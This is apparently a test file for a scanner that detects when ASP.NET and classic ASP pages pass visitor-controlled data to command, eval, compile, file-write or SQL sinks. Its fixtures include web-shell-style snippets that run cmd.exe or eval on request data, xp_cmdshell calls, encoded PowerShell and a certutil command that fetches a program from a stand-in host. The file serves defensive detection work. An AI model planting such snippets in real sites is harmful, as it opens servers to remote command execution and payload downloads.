import { describe, expect, it } from 'vitest';
import { createWebContent } from '../../../src/formats/views/web-content.js';
import { givesOnlyItsOwn } from '../../../src/signatures/fixed-sinks/fixed-sinks.js';
import { csharp, visualBasic } from '../behaviour/pages.js';

const isOwn = (kind: string, extension: string, text: string): boolean =>
  givesOnlyItsOwn(createWebContent(Buffer.from(text), { extension }), [kind]);

const jscriptPage = (code: string) =>
  `<%@ Page Language="JScript" %><script runat="server" language="JScript">${code}</script>`;
const jscriptAsp = (code: string) => `<%@ Language="JScript" %><% ${code} %>`;
const inPage = (code: string) => csharp(`protected void Page_Load(object sender, EventArgs e) { ${code} }`);
const inBasic = (code: string) =>
  visualBasic(`Protected Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)\r\n${code}\r\nEnd Sub`);
const compile = 'new CSharpCodeProvider().CompileAssemblyFromSource(options, source);';
const OPTIONS = 'var options = new CompilerParameters();';

/** `AddParameter` tells a command what, and not which. */
const TOLD = 'var p = PowerShell.Create(); p.AddCommand("Get-Service").AddParameter("Name", Request["n"]); p.Invoke();';
const WMI = 'var p = new ManagementClass("Win32_Process"); p.InvokeMethod("Create", new object[] { ';

/** Pages that give a sink nothing but their own: a parse, a list, a constant is all that makes them differ from the ones below. */
const OWN: readonly [what: string, kind: string, extension: string, text: string][] = [
  [
    'a formula of its own beside the type of the answer',
    'compile',
    'aspx',
    csharp(
      'string Formula(HttpRequest r) { return r.ContentLength == 0 ? "1 + 1" : "2 + 2"; }\nvoid P() { Response.ContentType = "application/json"; var f = Formula(Request); CSharpScript.EvaluateAsync(f).Wait(); }',
    ),
  ],
  [
    'a value that Razor shows',
    'compile',
    'cshtml',
    '@{ var f = "1 + 1"; object result = CSharpScript.EvaluateAsync(f).Result; if (result != null) { <p>@result</p> } }',
  ],
  [
    'a sum of what was checked',
    'compile',
    'aspx',
    inPage(
      'var engine = Microsoft.JScript.Vsa.VsaEngine.CreateEngine(); var f = Request["f"]; if (!System.Text.RegularExpressions.Regex.IsMatch(f, @"^[0-9+*/(). -]{1,40}$")) return; var r = Microsoft.JScript.Eval.JScriptEvaluate(f, engine);',
    ),
  ],
  [
    'methods of a class, by names in parts',
    'reflect',
    'aspx',
    inPage(
      'var t = Type.GetType("System.Ma" + "th"); var r = t.GetMethod("Abs", new[] { typeof(int) }).Invoke(null, new object[] { 3 }); Response.Write(r + Request["q"]);',
    ),
  ],
  [
    'what was compiled, made and asked with a number',
    'compile',
    'aspx',
    csharp(
      `const string Source = "public class F { public decimal Go(decimal x) { return x * 2; } }"; void P() { decimal n; if (!decimal.TryParse(Request["n"], out n)) return; ${OPTIONS} var made = new CSharpCodeProvider().CompileAssemblyFromSource(options, Source); object o = made.CompiledAssembly.CreateInstance("F"); Response.Write(o.GetType().GetMethod("Go").Invoke(o, new object[] { n })); }`,
    ),
  ],
  ['a command that is told a name', 'powershell', 'aspx', inPage(TOLD)],
  ['a fixed program by WMI', 'wmi', 'aspx', inPage(`${WMI}"C:\\\\tools\\\\a.exe" }); var z = Request["q"];`)],
  [
    'a picture under a name of its own, in whichever folder',
    'write',
    'aspx',
    csharp(
      'static readonly string[] Types = { ".jpg", ".png" };\nvoid Save(object s, EventArgs e) { var ext = Path.GetExtension(up.FileName).ToLowerInvariant(); if (!Types.Contains(ext)) return; up.SaveAs(Path.Combine(Server.MapPath(Request["dir"]), Guid.NewGuid().ToString("N") + ext)); }',
    ),
  ],
  [
    'a text in a folder of its own',
    'write',
    'aspx',
    inPage('File.AppendAllText(Server.MapPath("~/App_Data/notes.txt"), Request.Form["t"]);'),
  ],
  [
    'a variable that is given another value',
    'compile',
    'aspx',
    inPage(`string source = Request["s"]; Response.Write(source); source = "class A {}"; ${OPTIONS} ${compile}`),
  ],
  [
    'a variable of which both branches leave the page its own',
    'compile',
    'aspx',
    inPage(
      `string source = Request["s"]; if (source == "a") { source = "class A {}"; } else { source = "class B {}"; } ${OPTIONS} ${compile}`,
    ),
  ],
  ['a constant', 'evaluate', 'aspx', jscriptPage('function Page_Load() { var r = eval("1.19 * 100"); }')],
  ['numbers', 'evaluate', 'asp', jscriptAsp('var a = parseInt(Request("a")); Response.Write(eval("3 * " + a));')],
  [
    'a choice',
    'evaluate',
    'asp',
    jscriptAsp('var s = Request("o") == "1" ? "a - b" : "b - a"; var f = new Function("a", "b", "return " + s);'),
  ],
  ['only a comment', 'evaluate', 'aspx', jscriptPage('/* was done with eval() */ function Page_Load() { var r = 1; }')],
  [
    'a parsed number',
    'compile',
    'aspx',
    inPage(
      `decimal rate; decimal.TryParse(Request["r"], out rate); ${OPTIONS} string source = "class R { decimal A() { return 2m * " + rate + "m; } }"; ${compile}`,
    ),
  ],
  [
    'a file of its own',
    'compile',
    'aspx',
    inBasic(
      'Dim file As String = Server.MapPath("~/App_Data/Prices.vb")\r\nDim options As New CompilerParameters()\r\nCodeDomProvider.CreateProvider("VB").CompileAssemblyFromSource(options, IO.File.ReadAllText(file))',
    ),
  ],
  [
    'a list',
    'powershell',
    'aspx',
    csharp(
      'static readonly string[] Known = { "Spooler", "W3SVC" };\nvoid Go() { int at = Array.IndexOf(Known, Request["s"]); string name = Known[at < 0 ? 0 : at]; using (Runspace rs = RunspaceFactory.CreateRunspace()) { rs.Open(); Pipeline pipe = rs.CreatePipeline(); pipe.Commands.AddScript("Get-Service " + name); pipe.Invoke(); } }',
    ),
  ],
  [
    'a dictionary',
    'process',
    'aspx',
    csharp(
      'class Cmd { public string Exe, Args; public Cmd(string exe, string args) { Exe = exe; Args = args; } }\nstatic readonly Dictionary<string, Cmd> All = new Dictionary<string, Cmd> { { "ip", new Cmd("ipconfig.exe", "/all") } };\nvoid Go() { Cmd cmd; if (!All.TryGetValue(Request["c"], out cmd)) return; Run(cmd.Exe, cmd.Args); }\nstatic string Run(string exe, string args) { var p = Process.Start(new ProcessStartInfo(exe, args)); return p.StandardOutput.ReadToEnd(); }',
    ),
  ],
  [
    'an address',
    'process',
    'aspx',
    inPage(
      'IPAddress a; if (!IPAddress.TryParse(Request["h"], out a)) return; Process.Start("ping.exe", "-n 2 " + a.ToString());',
    ),
  ],
  [
    'an identifier',
    'process',
    'aspx',
    inPage('Guid id = Guid.Parse(Request["id"]); Process.Start("report.exe", "/id " + id);'),
  ],
  [
    'a date',
    'process',
    'aspx',
    inPage('DateTime d = DateTime.Parse(Request["d"]); Process.Start("report.exe", d.ToString("yyyyMMdd"));'),
  ],
  [
    'a member of an enumeration',
    'process',
    'aspx',
    csharp(
      'enum Mode { Full, Quick }\nvoid Go() { var mode = (Mode)Enum.Parse(typeof(Mode), Request["m"]); Process.Start("check.exe", "/mode:" + mode); }',
    ),
  ],
  [
    'a switch',
    'process',
    'aspx',
    inPage(
      'string args; switch (Request["a"]) { case "x": args = "/all"; break; default: args = "/quick"; break; } Process.Start("check.exe", args);',
    ),
  ],
  [
    'its own style sheet',
    'transform',
    'aspx',
    inPage(
      'var t = new XslCompiledTransform(); using (XmlReader r = XmlReader.Create(Server.MapPath("~/App_Data/list.xslt"))) { t.Load(r, new XsltSettings(false, true), null); } var args = new XsltArgumentList(); args.AddParam("h", "", Request["h"]); t.Transform(Server.MapPath("~/a.xml"), args, Response.Output);',
    ),
  ],
  [
    'its own layout',
    'xaml',
    'aspx',
    csharp(
      'const string Layout = "<TextBlock xmlns=\'http://schemas.microsoft.com/winfx/2006/xaml/presentation\' />";\nvoid Go() { var b = (TextBlock)XamlReader.Parse(Layout); b.Text = Request["t"]; }',
    ),
  ],
  [
    'an installed assembly',
    'load',
    'aspx',
    inPage(
      'var posted = Request.Files["f"]; Assembly a = Assembly.Load("Contoso.Checker"); object o = a.CreateInstance("Contoso.Check"); Response.Write(posted.ContentLength);',
    ),
  ],
  [
    'fixed statements',
    'sql',
    'aspx',
    csharp(
      'static readonly string[,] Actions = { { "who", "EXEC sp_who2" }, { "shell off?", "SELECT value FROM sys.configurations WHERE name = \'xp_cmdshell\'" } };\nvoid Go() { int i = Pick.SelectedIndex; var c = new SqlCommand(Actions[i, 1], con); c.ExecuteReader(); }',
    ),
  ],
  [
    'a fixed command of the database',
    'sql',
    'aspx',
    inBasic(
      'Dim cmd As New SqlCommand("EXEC master..xp_cmdshell \'net use\'; SELECT note FROM t WHERE n = @c", con)\r\ncmd.Parameters.AddWithValue("@c", Request("c"))',
    ),
  ],
  [
    'a command of the database with a mask out of a list, in classic ASP',
    'sql',
    'asp',
    '<%\nFunction Mask()\nSelect Case Request("m")\nCase "1"\nMask = "*.csv"\nCase Else\nMask = "*.xml"\nEnd Select\nEnd Function\nSet c = CreateObject("ADODB.Command")\nc.CommandText = "EXEC master..xp_cmdshell \'dir " & Replace(Mask(), "x", "y") & "\'"\nSet rows = c.Execute\n%>',
  ],
  [
    'its own project',
    'build',
    'aspx',
    inPage(
      'var xml = XmlReader.Create(Server.MapPath("~/App_Data/site.proj")); var project = new Project(xml); project.SetProperty("Configuration", Request["d"] == "1" ? "Debug" : "Release"); project.Build();',
    ),
  ],
  [
    'its own devices',
    'connect',
    'aspx',
    inBasic(
      'Dim channel As Integer = CInt(Request("p"))\r\nDim client As New TcpClient("scale-01.example", 4001)\r\nDim query() As Byte = Encoding.ASCII.GetBytes("READ " & channel)\r\nclient.GetStream().Write(query, 0, query.Length)',
    ),
  ],
  [
    'its own feed',
    'download',
    'aspx',
    inPage(
      'string local = Server.MapPath("~/App_Data/press.xml"); new WebClient().DownloadFile("https://press.example/rss.xml", local); Response.Write(Request["q"]);',
    ),
  ],
];

describe('a page gives a sink nothing but its own', () => {
  it.each(OWN)('%s for %s', (_, kind, extension, text) => {
    expect(isOwn(kind, extension, text)).toBe(true);
  });
});

const RUN = 'Process.Start("cmd.exe", line);';
const started = (before: string, line = RUN) => inPage(`${before} ${line}`);

/** The same sinks, given what may be a visitor's, by ways that are easily taken for harmless. */
const FOREIGN: readonly [what: string, kind: string, extension: string, text: string][] = [
  [
    'methods of a class that is named in parts, one of which gets what is sent',
    'reflect',
    'aspx',
    inPage('var t = Type.GetType("Shop.Ru" + "nner"); t.GetMethod("Run").Invoke(null, new object[] { Request["q"] });'),
  ],
  [
    'a class that is sent',
    'reflect',
    'aspx',
    inPage('var t = Type.GetType("Shop." + Request["q"]); t.GetMethod("Run").Invoke(null, new object[] { 3 });'),
  ],
  [
    'a class that starts programs, by a name in parts',
    'reflect',
    'aspx',
    inPage('var t = Type.GetType("System.Diag" + "nostics.Pro" + "cess"); t.GetMethod("Start").Invoke(null, null);'),
  ],
  [
    'a name that is decoded',
    'reflect',
    'aspx',
    inPage(
      'var t = Type.GetType(Encoding.UTF8.GetString(Convert.FromBase64String("U2hvcC5SdW5uZXI="))); t.GetMethod("Run").Invoke(null, null);',
    ),
  ],
  [
    'members that Razor names in disguise',
    'compile',
    'cshtml',
    '@{ var f = "1 + 1"; typeof(Box).@GetField("f").@SetValue(null, Request["f"]); object result = CSharpScript.EvaluateAsync(f).Result; }',
  ],
  [
    'more than a sum',
    'compile',
    'aspx',
    inPage(
      'var engine = Microsoft.JScript.Vsa.VsaEngine.CreateEngine(); var f = Request["f"]; if (!System.Text.RegularExpressions.Regex.IsMatch(f, @"^[0-9a-z+*/(). -]{1,40}$")) return; var r = Microsoft.JScript.Eval.JScriptEvaluate(f, engine);',
    ),
  ],
  [
    'an engine that is told something',
    'compile',
    'aspx',
    inPage(
      'var engine = Microsoft.JScript.Vsa.VsaEngine.CreateEngine(); engine.SetOption("a", Request["f"]); var r = Microsoft.JScript.Eval.JScriptEvaluate("1 + 1", engine);',
    ),
  ],
  [
    'a variable that only sometimes is given another value',
    'compile',
    'aspx',
    inPage(`string source = Request["s"]; if (sender == null) { source = "class A {}"; } ${OPTIONS} ${compile}`),
  ],
  [
    'a variable that gets back what it had in the next round',
    'compile',
    'aspx',
    inPage(
      `string source = "class A {}"; ${OPTIONS} while (true) { ${compile} source = Request["s"]; if (sender == null) continue; source = "class B {}"; }`,
    ),
  ],
  [
    'a member that is named as a variable',
    'process',
    'aspx',
    csharp(
      'class Box { public string line; }\nvoid A() { string line = "a"; var box = new Box { line = Request["c"] }; Process.Start("cmd.exe", box.line); }',
    ),
  ],
  [
    'a command of the request',
    'powershell',
    'aspx',
    inPage('var p = PowerShell.Create(); p.AddCommand(Request["n"]); p.Invoke();'),
  ],
  [
    'a command that runs what it is told',
    'powershell',
    'aspx',
    inPage(TOLD.replace('Get-Service', 'Invoke-Expression')),
  ],
  ['a program of the request by WMI', 'wmi', 'aspx', inPage(`${WMI}Request["q"] });`)],
  ['a file of the request', 'write', 'aspx', inPage('File.AppendAllText(Server.MapPath(Request["f"]), Request["t"]);')],
  ['a whole path, with nothing behind it', 'write', 'aspx', inPage('up.SaveAs(Path.Combine(Request["dir"], ""));')],
  [
    'a name of its own of any kind',
    'write',
    'aspx',
    inPage('up.SaveAs(Path.Combine(Request["dir"], Guid.NewGuid().ToString("N") + Path.GetExtension(up.FileName)));'),
  ],
  [
    'a page of its own in whichever folder',
    'write',
    'aspx',
    inPage('up.SaveAs(Path.Combine(Request["dir"], Guid.NewGuid().ToString("N") + ".aspx"));'),
  ],
  ['a page', 'write', 'aspx', inPage('File.AppendAllText(Server.MapPath("~/a.aspx"), Request["t"]);')],
  [
    'a text that becomes a page',
    'write',
    'aspx',
    inPage('File.WriteAllText("a.txt", Request["t"]); File.Move("a.txt", "a.ashx");'),
  ],
  [
    'a field',
    'process',
    'aspx',
    csharp('string line = "/c ver";\nvoid A() { line = Request["c"]; }\nvoid B() { Process.Start("cmd.exe", line); }'),
  ],
  [
    'a field of another object',
    'process',
    'aspx',
    csharp(
      'class Box { public string Line = "/c ver"; }\nBox box = new Box();\nvoid A() { Box other = box; other.Line = Request["c"]; }\nvoid B() { Process.Start("cmd.exe", box.Line); }',
    ),
  ],
  [
    'a property and its setter',
    'process',
    'aspx',
    csharp(
      'string kept = "/c ver";\nstring Line { get { return kept; } set { kept = value; } }\nvoid A() { Line = Request["c"]; }\nvoid B() { Process.Start("cmd.exe", Line); }',
    ),
  ],
  [
    'static state',
    'process',
    'aspx',
    csharp(
      'class Held { public static string Line = "/c ver"; }\nvoid A() { Held.Line = Request["c"]; }\nvoid B() { Process.Start("cmd.exe", Held.Line); }',
    ),
  ],
  [
    'an exception',
    'process',
    'aspx',
    csharp(
      'void A() { string line = "/c ver"; try { throw new Exception(Request["c"]); } catch (Exception ex) { line = ex.Message; } Process.Start("cmd.exe", line); }',
    ),
  ],
  [
    'an exception of VB',
    'process',
    'aspx',
    inBasic(
      'Dim line As String = "ver"\r\nTry\r\nThrow New Exception(Request("c"))\r\nCatch ex As Exception\r\nline = ex.Message\r\nEnd Try\r\nShell(line)',
    ),
  ],
  [
    'a reference',
    'process',
    'aspx',
    csharp(
      'void A(ref string to) { to = Request["c"]; }\nvoid B() { string line = "ver"; A(ref line); Process.Start("cmd.exe", line); }',
    ),
  ],
  [
    'a reference of VB',
    'process',
    'aspx',
    visualBasic(
      'Sub A(ByRef target As String)\r\ntarget = Request("c")\r\nEnd Sub\r\nSub B()\r\nDim line As String = "ver"\r\nA(line)\r\nShell(line)\r\nEnd Sub',
    ),
  ],
  [
    'a reference that another hands over',
    'process',
    'aspx',
    inBasic('Dim line As String = "ver"\r\nHelper.Fill(line)\r\nShell(line)'),
  ],
  ['a tuple', 'process', 'aspx', started('string line = "ver"; int n; (line, n) = (Request["c"], 1);')],
  ['a lambda', 'process', 'aspx', started('string line = "ver"; Action set = () => { line = Request["c"]; }; set();')],
  [
    'an event',
    'process',
    'aspx',
    csharp(
      'event Action<string> Ran;\nvoid Run(string line) { Process.Start("cmd.exe", line); }\nvoid A() { Run("ver"); Ran += Run; Ran(Request["c"]); }',
    ),
  ],
  [
    'a delegate',
    'process',
    'aspx',
    csharp(
      'void Run(string line) { Process.Start("cmd.exe", line); }\nvoid A() { Run("ver"); Action<string> run = Run; run(Request["c"]); }',
    ),
  ],
  [
    'a thread',
    'process',
    'aspx',
    visualBasic(
      'Sub Run(ByVal line As Object)\r\nShell(line)\r\nEnd Sub\r\nSub A()\r\nRun("ver")\r\nDim t As New Threading.Thread(AddressOf Run)\r\nt.Start(Request("c"))\r\nEnd Sub',
    ),
  ],
  [
    'a method that clients call',
    'process',
    'asmx',
    '<%@ WebService Language="C#" Class="S" %>\npublic class S : WebService { [WebMethod] public void Run(string line) { Process.Start("cmd.exe", line); } void A() { Run("ver"); } }',
  ],
  [
    'an interface',
    'process',
    'aspx',
    csharp(
      'class R : IRunner { public void Run(string line) { Process.Start("cmd.exe", line); } }\nvoid A() { new R().Run("ver"); }',
    ),
  ],
  [
    'a second constructor',
    'process',
    'aspx',
    csharp(
      'class C { public C(string a) : this(1, a) { } public C(int n, string line) { Process.Start("cmd.exe", line); } }\nvoid A() { new C(Request["c"]); }',
    ),
  ],
  [
    'more arguments than parameters',
    'process',
    'aspx',
    csharp('void Run(params string[] all) { Process.Start("cmd.exe", all[1]); }\nvoid A() { Run("a", Request["c"]); }'),
  ],
  [
    'an extension',
    'process',
    'aspx',
    csharp(
      'static class X { public static void Run(this string line) { Process.Start("cmd.exe", line); } }\nvoid A() { "ver".Run(); Request["c"].Run(); }',
    ),
  ],
  [
    'reflection on a field',
    'process',
    'aspx',
    csharp(
      'string line = "ver";\nvoid A() { GetType().GetField("line").SetValue(this, Request["c"]); Process.Start("cmd.exe", line); }',
    ),
  ],
  [
    'a conversion of its own',
    'process',
    'aspx',
    csharp(
      'class T { public override string ToString() { return HttpContext.Current.Request["c"]; } }\nvoid A() { Process.Start("cmd.exe", "/c " + new T()); }',
    ),
  ],
  [
    'an operator of its own',
    'process',
    'aspx',
    csharp(
      'class T { public static T operator +(T a, string b) { return new T(); } }\nvoid A() { Process.Start("cmd.exe", "/c " + new T()); }',
    ),
  ],
  ['a format', 'process', 'aspx', started('string line = string.Format("/c {0}", Request["c"]);')],
  [
    'a builder',
    'process',
    'aspx',
    started('var b = new StringBuilder("/c "); b.Append(Request["c"]); string line = b.ToString();'),
  ],
  [
    'a builder by another name',
    'process',
    'aspx',
    started('var b = new StringBuilder("/c "); var other = b; other.Append(Request["c"]); string line = b.ToString();'),
  ],
  ['a list', 'process', 'aspx', started('var all = new List<string>(); all.Add(Request["c"]); string line = all[0];')],
  [
    'a list of a list',
    'process',
    'aspx',
    started(
      'var inner = new List<string>(); var all = new List<List<string>>(); all.Add(inner); all[0].Add(Request["c"]); string line = inner[0];',
    ),
  ],
  [
    'a copied array',
    'process',
    'aspx',
    started('string[] a = { "ver" }; string[] b = { Request["c"] }; Array.Copy(b, a, 1); string line = a[0];'),
  ],
  ['a cookie', 'process', 'aspx', started('string line = Request.Cookies["c"].Value;')],
  ['a header', 'process', 'aspx', started('string line = Request.Headers["X-C"];')],
  ['the session', 'process', 'aspx', started('string line = (string)Session["c"];')],
  ['the application', 'process', 'aspx', started('string line = (string)Application["c"];')],
  ['the cache', 'process', 'aspx', started('string line = (string)Cache["c"];')],
  ['the view state', 'process', 'aspx', started('string line = (string)ViewState["c"];')],
  [
    'a database',
    'process',
    'aspx',
    started('var cmd = new SqlCommand("SELECT c FROM t", con); string line = (string)cmd.ExecuteScalar();'),
  ],
  [
    'another server',
    'process',
    'aspx',
    started('string line = new WebClient().DownloadString("https://a.example/c.txt");'),
  ],
  ['a resource', 'process', 'aspx', started('string line = (string)GetGlobalResourceObject("R", "c");')],
  [
    'a member of JSON',
    'process',
    'aspx',
    csharp(
      'class J { public string Line = "ver"; }\nvoid A() { J j = new JavaScriptSerializer().Deserialize<J>(Request["j"]); Process.Start("cmd.exe", j.Line); }',
    ),
  ],
  [
    'an uploaded file',
    'process',
    'aspx',
    started('Request.Files[0].SaveAs("d:\\\\jobs\\\\a.cmd"); string line = "/c d:\\\\jobs\\\\a.cmd";'),
  ],
  [
    'a file that it writes',
    'process',
    'aspx',
    started(
      'File.WriteAllText("d:\\\\jobs\\\\a.txt", Request["c"]); string line = File.ReadAllText("d:\\\\jobs\\\\a.txt");',
    ),
  ],
  [
    'a file of a folder for uploads',
    'compile',
    'aspx',
    inPage(`${OPTIONS} string source = File.ReadAllText(Server.MapPath("~/upload/a.cs")); ${compile}`),
  ],
  [
    'the environment',
    'process',
    'aspx',
    started('Environment.SetEnvironmentVariable("C", Request["c"]); string line = "/c %C%";'),
  ],
  [
    'the environment of the program',
    'process',
    'aspx',
    started(
      'var psi = new ProcessStartInfo("cmd.exe", "/c %C%"); psi.EnvironmentVariables["C"] = Request["c"];',
      'Process.Start(psi);',
    ),
  ],
  [
    'a mask of the request, in classic ASP',
    'sql',
    'asp',
    '<%\nSet c = CreateObject("ADODB.Command")\nc.CommandText = "EXEC master..xp_cmdshell \'dir " & Replace(Request("m"), "x", "y") & "\'"\nSet rows = c.Execute\n%>',
  ],
  [
    'a parameter of the statement',
    'sql',
    'aspx',
    inBasic(
      'Dim cmd As New SqlCommand("EXEC master..xp_cmdshell @c", con)\r\ncmd.Parameters.AddWithValue("@c", Request("c"))',
    ),
  ],
  [
    'a variable of PowerShell',
    'powershell',
    'aspx',
    inPage(
      'var rs = RunspaceFactory.CreateRunspace(); rs.SessionStateProxy.SetVariable("c", Request["c"]); var pipe = rs.CreatePipeline(); pipe.Commands.AddScript("& $c"); pipe.Invoke();',
    ),
  ],
  [
    'characters by number',
    'process',
    'aspx',
    started('string line = ""; foreach (string n in Request["n"].Split(\',\')) line += (char)int.Parse(n);'),
  ],
  [
    'letters of a text',
    'process',
    'aspx',
    started(
      'const string Letters = "abcdefgh /."; string line = ""; foreach (string n in Request["n"].Split(\',\')) line += Letters[int.Parse(n)];',
    ),
  ],
  [
    'letters of a list',
    'process',
    'aspx',
    started(
      'string[] parts = { "who", "am", "net" }; string line = ""; foreach (string n in Request["n"].Split(\',\')) line += parts[int.Parse(n)];',
    ),
  ],
  [
    'letters by comparison',
    'process',
    'aspx',
    started(
      `string line = ""; foreach (char c in Request["c"]) switch (c) { ${[...'abcdefghijklmnopqrs'].map((letter) => `case '${letter}': line += "${letter}"; break;`).join(' ')} }`,
    ),
  ],
  ['an include', 'process', 'aspx', `<!--#include file="a.inc"-->${started('string line = "ver";')}`],
  [
    'a control of another file',
    'process',
    'aspx',
    `<%@ Register Src="a.ascx" TagPrefix="a" TagName="b" %>${started('string line = "ver";')}`,
  ],
  [
    'a page that another one is made of',
    'process',
    'aspx',
    `<%@ Page Language="C#" Inherits="Shared" %><script runat="server">void A() { Process.Start("cmd.exe", "/c ver"); }</script>`,
  ],
  [
    'an interface of the page',
    'process',
    'aspx',
    `<%@ Implements Interface="System.Web.UI.ICallbackEventHandler" %>${csharp('public void RaiseCallbackEvent(string line) { Process.Start("cmd.exe", line); }\nvoid A() { RaiseCallbackEvent("ver"); }')}`,
  ],
  [
    'a source of data',
    'process',
    'aspx',
    `<asp:ObjectDataSource runat="server" SelectMethod="Run" />${csharp('public void Run(string line) { Process.Start("cmd.exe", line); }\nvoid A() { Run("ver"); }')}`,
  ],
  ['a name that is not declared', 'process', 'aspx', started('', 'Process.Start("cmd.exe", Helper.Line);')],
  [
    'an encoded command',
    'powershell',
    'aspx',
    inPage('PowerShell.Create().AddScript("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A").Invoke();'),
  ],
  [
    'a command that fetches',
    'process',
    'aspx',
    started('string line = "/c certutil -urlcache -f http://a.example/a.exe a.exe";'),
  ],
  ['a hidden window', 'process', 'aspx', inPage('Process.Start("powershell.exe", "-w hidden -file d:\\\\a.ps1");')],
  [
    'a program as text',
    'load',
    'aspx',
    inPage(
      `Assembly a = Assembly.Load(Convert.FromBase64String("${'TVqQAAMAAAAE'.repeat(12)}")); a.CreateInstance("P");`,
    ),
  ],
  [
    'code that runs what it is sent',
    'compile',
    'aspx',
    inPage(
      `${OPTIONS} string source = "class R { object A() { return System.Diagnostics.Process" + ".Start(System.Web.HttpContext.Current.Request[\\"c\\"]); } }"; ${compile}`,
    ),
  ],
  [
    'the framework by name',
    'load',
    'aspx',
    inPage(
      'dynamic p = Assembly.Load("System").CreateInstance("System.Diagnostics.Process"); p.StartInfo.FileName = Request["c"]; p.Start();',
    ),
  ],
  [
    'an assembly that gets the request',
    'load',
    'aspx',
    inPage('Assembly.LoadFrom("d:\\\\a.dll").CreateInstance("P").Equals(Context);'),
  ],
  [
    'layout that starts a program',
    'xaml',
    'aspx',
    inPage('XamlReader.Parse("<ObjectDataProvider MethodName=\'Start\' />"); Response.Write(Request["q"]);'),
  ],
  [
    'a page that it fetches',
    'download',
    'aspx',
    inPage(
      'new WebClient().DownloadFile("https://a.example/a.txt", Server.MapPath("~/a.aspx")); Response.Write(Request["q"]);',
    ),
  ],
  [
    'evaluation by another name',
    'evaluate',
    'aspx',
    jscriptPage('var e = eval; function Page_Load() { eval("1+1"); e(Request["c"]); }'),
  ],
  [
    'evaluation by its name as text',
    'evaluate',
    'aspx',
    jscriptPage('function Page_Load() { eval("1+1"); this["eval"](Request["c"]); }'),
  ],
  [
    'evaluation by a constructor',
    'evaluate',
    'asp',
    jscriptAsp('eval("1+1"); [].sort.constructor(String(Request("c")))();'),
  ],
  [
    'a variable set by evaluation',
    'evaluate',
    'asp',
    jscriptAsp('var given = String(Request("c")); var code = "1+1"; eval("code = given"); eval(code);'),
  ],
  [
    'a variable set by name',
    'evaluate',
    'asp',
    jscriptAsp('var code = "1+1"; this["code"] = String(Request("c")); eval(code);'),
  ],
  [
    'an argument set by number',
    'evaluate',
    'asp',
    jscriptAsp('function run(code) { arguments[0] = String(Request("c")); return eval(code); } run("1+1");'),
  ],
  [
    'a method of all texts',
    'evaluate',
    'asp',
    jscriptAsp('String.prototype.trim = function () { return String(Request("c")); }; eval("1+1".trim());'),
  ],
  [
    'a comment that is compiled',
    'evaluate',
    'aspx',
    jscriptPage('/*@cc_on eval(Request["c"]) @*/ function Page_Load() { }'),
  ],
  ['either value', 'evaluate', 'asp', jscriptAsp('var code = Request("c") || "1+1"; eval(code);')],
  [
    'the body of a with',
    'evaluate',
    'asp',
    jscriptAsp('var code = "1+1"; with (Request) { code = Form("c"); } eval(code);'),
  ],
  ['a password', 'process', 'aspx', started('if (Request["pass"] != "a") return; string line = "/c ver";')],
  [
    'a second piece in another language',
    'process',
    'aspx',
    `${started('string line = "/c ver";')}<script runat="server" language="vb">Sub Q()\r\nEnd Sub</script>`,
  ],
  [
    'a native function',
    'process',
    'aspx',
    csharp(
      '[DllImport("msvcrt.dll")] static extern int system(string s);\nvoid A() { system(Request["c"]); Process.Start("cmd.exe", "/c ver"); }',
    ),
  ],
];

describe('a page may give a sink what is not its own', () => {
  it.each(FOREIGN)('%s for %s', (_, kind, extension, text) => {
    expect(isOwn(kind, extension, text)).toBe(false);
  });

  it('nothing is known of kinds that no table has, or of none at all', () => {
    const page = started('string line = "/c ver";');
    expect(isOwn('process', 'aspx', page)).toBe(true);
    expect(isOwn('juggling', 'aspx', page)).toBe(false);
    expect(givesOnlyItsOwn(createWebContent(Buffer.from(page), { extension: 'aspx' }), [])).toBe(false);
  });
});
